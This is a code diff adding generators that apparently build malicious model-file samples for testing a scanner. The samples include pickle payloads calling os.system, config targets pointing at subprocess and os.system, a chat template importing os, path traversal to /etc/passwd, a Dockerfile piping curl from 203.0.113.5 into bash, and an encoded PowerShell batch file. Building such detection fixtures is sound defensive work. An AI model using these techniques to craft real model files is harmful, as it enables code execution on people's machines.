@@ -241,10 +241,84 @@ def containers():
     yield one('safetensors-overlap', 'safetensors', 'structure', 'm.safetensors', struct.pack('<Q', len(over)) + over + b'\0' * 24)
     header = "{'descr': __import__('os').system('" + TOUCH + "'), 'fortran_order': False, 'shape': (1,), }\n"
     yield one('npy-header-call', 'npy', 'code', 'a.npy', b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode() + b'\0' * 8)
-    yield one('rds-promise', 'rds', 'code', 'm.rds', gzip.compress(f.rds_promise()))
+    yield one('rds-promise', 'rds', 'code', 'm.rds', gzip.compress(f.rds_promise()), True, 'rds')
     yield one('rds-promise-plain', 'rds', 'code', 'm.rds', f.rds_promise(('source', 'http://203.0.113.5/x.R')))
 
 
+def more():
+    yield one('tflite-custom-op', 'tflite', 'code', 'm.tflite', f.tflite('EvilShellOp'))
+    yield one('tflite-flex-write', 'tflite', 'file', 'm.tflite', f.tflite('FlexWriteFile'))
+    yield one('rdata-first', 'rds', 'code', 'work.RData', f.rds_closure())
+    yield one('rds-promise-eval', 'rds', 'code', 'm.rds', f.rds_promise(('eval', 'x')))
+    link = f.pb((1, f.pb((3, '../../../evil'))), (2, f.pb((3, '/tmp/evil'))))
+    linked = f.pb((1, link))
+    yield one('mlmodel-linked', 'coreml', 'file', 'm.mlmodel', f.pb((1, 4), (2, f.pb((1, f.pb((1, 'x'))))), (556, f.pb((1, linked)))))
+    yield one('flax-pickle-ext', 'flax', 'code', 'flax_model.msgpack', _flax())
+    yield one('torchserve-absolute-handler', 'torchserve', 'code', 'm.mar', zip_of([('MAR-INF/MANIFEST.json', json.dumps({'model': {'modelName': 'm', 'handler': '/tmp/evil.py:handle'}}))]))
+    yield one('compvis-target', 'hydra', 'code', 'v1-inference.yaml', 'model:\n  target: os.system\n  params:\n    command: touch x\n')
+    yield one('lightning-class-path', 'hydra', 'code', 'config.yaml', 'trainer:\n  callbacks:\n    - class_path: subprocess.Popen\n      init_args:\n        args: [touch, x]\n')
+    yield one('uni2ts-config', 'hydra', 'code', 'config.json', json.dumps({'distr_output': {'_target_': 'subprocess.getoutput', '_args_': [TOUCH]}}))
+    yield one('safetensors-metadata-target', 'hydra', 'code', 'm.safetensors', f.safetensors([('w', 'F32', [1], b'\0' * 4)], {'modelspec': json.dumps({'_target_': 'os.system', 'command': TOUCH})}))
+    yield one('tfjs-url', 'tfjs', 'file', 'model.json', json.dumps({'format': 'layers-model', 'modelTopology': {'model_config': f.sequential([f.dense()])}, 'weightsManifest': [{'paths': ['../../../../etc/passwd'], 'weights': []}]}))
+    yield one('gguf-template-import', 'gguf', 'template', 'm.gguf', f.gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', "{% import 'os' as o %}{{ o.system('x') }}")]))
+    yield one('pyc-alone', 'python', 'code', 'modeling_x.cpython-311.pyc', _pyc())
+    yield one('sitecustomize', 'python', 'code', 'sitecustomize.py', SHELL)
+    yield one('conda-env-url', 'requirements', 'code', 'environment.yml', 'name: m\ndependencies:\n  - pip:\n    - git+http://203.0.113.5/evil.git\n')
+    yield one('dockerfile-curl', 'text', 'code', 'Dockerfile', 'FROM python:3.11\nRUN curl -s http://203.0.113.5/x.sh | bash\n')
+    yield one('oci-layer-pickle', 'oci', 'carrier', 'image.tar', _oci())
+    yield one('zip-encrypted', 'zip', 'container', 'model.zip', _encrypted())
+    yield one('gzip-then-zip', 'gzip', 'carrier', 'm.json', gzip.compress(b'{}') + zip_of(torch_members(b"cos\nsystem\n(S'x'\ntR.")))
+    yield one('macho-as-model', 'executable', 'executable', 'model.gguf', struct.pack('<IIIIIIII', 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + b'\0' * 500)
+    yield one('batch-file', 'executable', 'executable', 'run_model.bat', '@echo off\r\npowershell -enc SQBFAFgA\r\n')
+    yield one('leaked-token', 'text', 'secret', 'config.json', json.dumps({'hf_token': 'hf_' + 'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3f', 'model_type': 'bert'}))
+    yield one('private-key', 'text', 'secret', 'deploy.pem', _key())
+
+
+def _flax():
+    import msgpack
+
+    return msgpack.packb({'params': msgpack.ExtType(42, b"cos\nsystem\n(S'touch x'\ntR.")})
+
+
+def _pyc():
+    import importlib.util
+    import marshal
+
+    code = compile(SHELL, 'modeling_x.py', 'exec')
+    return importlib.util.MAGIC_NUMBER + b'\0' * 12 + marshal.dumps(code)
+
+
+def _oci():
+    import hashlib
+
+    layer = gzip.compress(tar_of([('models/pytorch_model.bin', zip_of(torch_members(b"cos\nsystem\n(S'touch x'\ntR.")))]), mtime=0)
+    name = hashlib.sha256(layer).hexdigest()
+    manifest = json.dumps({'schemaVersion': 2, 'layers': [{'mediaType': 'application/vnd.oci.image.layer.v1.tar+gzip', 'digest': 'sha256:' + name, 'size': len(layer)}]}).encode()
+    main = hashlib.sha256(manifest).hexdigest()
+    index = json.dumps({'schemaVersion': 2, 'manifests': [{'mediaType': 'application/vnd.oci.image.manifest.v1+json', 'digest': 'sha256:' + main, 'size': len(manifest)}]}).encode()
+    return tar_of([('oci-layout', b'{"imageLayoutVersion": "1.0.0"}'), ('index.json', index), (f'blobs/sha256/{main}', manifest), (f'blobs/sha256/{name}', layer)])
+
+
+def _encrypted():
+    import os
+    import subprocess
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as folder:
+        with open(os.path.join(folder, 'm.pkl'), 'wb') as file:
+            file.write(b"cos\nsystem\n(S'x'\ntR.")
+        path = os.path.join(folder, 'm.zip')
+        subprocess.run(['7z', 'a', '-psecret', path, os.path.join(folder, 'm.pkl')], check=True, capture_output=True)
+        with open(path, 'rb') as file:
+            return file.read()
+
+
+def _key():
+    import subprocess
+
+    return subprocess.run(['openssl', 'genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256'], check=True, capture_output=True).stdout
+
+
 def all_items():
-    for group in (keras, tensorflow, onnx_models, graphs, torchscript, configs, templates, repositories, containers):
+    for group in (keras, tensorflow, onnx_models, graphs, torchscript, configs, templates, repositories, containers, more):
         yield from group()
